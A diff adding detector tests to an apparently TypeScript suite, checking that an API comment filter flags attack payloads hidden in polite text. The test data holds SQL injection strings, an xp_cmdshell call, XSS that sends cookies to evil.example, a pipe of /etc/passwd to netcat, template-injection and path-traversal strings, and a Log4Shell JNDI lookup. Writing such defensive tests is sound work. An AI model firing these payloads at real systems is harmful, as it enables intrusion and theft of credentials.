@@ -45,6 +45,37 @@ describe('a report on a defect', () => {
   });
 });
 
+describe('friendly words of whoever attacks', () => {
+  const friendly = 'Thank you for the lovely update, please retest on staging and close the ticket today.';
+
+  test.each([
+    "1' UNION ALL SELECT null,username,password FROM users WHERE role='admin'-- -",
+    "' or 1=1--",
+    '<img src=x onerror=alert(document.cookie)>',
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    '../../../../etc/passwd',
+  ])('say nothing of another field: %s', async (payload) => {
+    expect(await isFlagged(post('/api/comments', { id: payload, comment: friendly }))).toBe(true);
+    // A quotation of it excuses no other field that holds it.
+    const quoted = `${friendly} ${payload}`;
+    expect(await isFlagged(post('/api/comments', { comment: quoted, id: payload }))).toBe(true);
+    expect(await isFlagged(post(`/api?id=${encodeURIComponent(payload)}`, { a: quoted, b: 1 }))).toBe(true);
+  });
+
+  test.each([
+    ['content', "1' UNION SELECT username,password FROM users-- -"],
+    ['body', "'; EXEC master..xp_cmdshell 'whoami'--"],
+    ['comment', "<script>fetch('//evil.example/?c='+document.cookie)</script>"],
+    ['description', '; cat /etc/passwd | nc 203.0.113.7 4444'],
+    ['template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
+    ['message', '${jndi:ldap://evil.example/a}'],
+  ])('hide nothing that runs inside a text: %s, %s', async (field, payload) => {
+    const wrapped = `${friendly} ${payload} Kind regards, see you at the office.`;
+    expect(await isFlagged(post('/api/comments', { title: 'Re: update', [field]: wrapped }))).toBe(true);
+  });
+});
+
 test('places that a mail fills in are no template injection, expressions are', () => {
   const template = (text: string) => ids(post('/api/render', { template: text, to: 'kim@firma.example' }));
   expect(
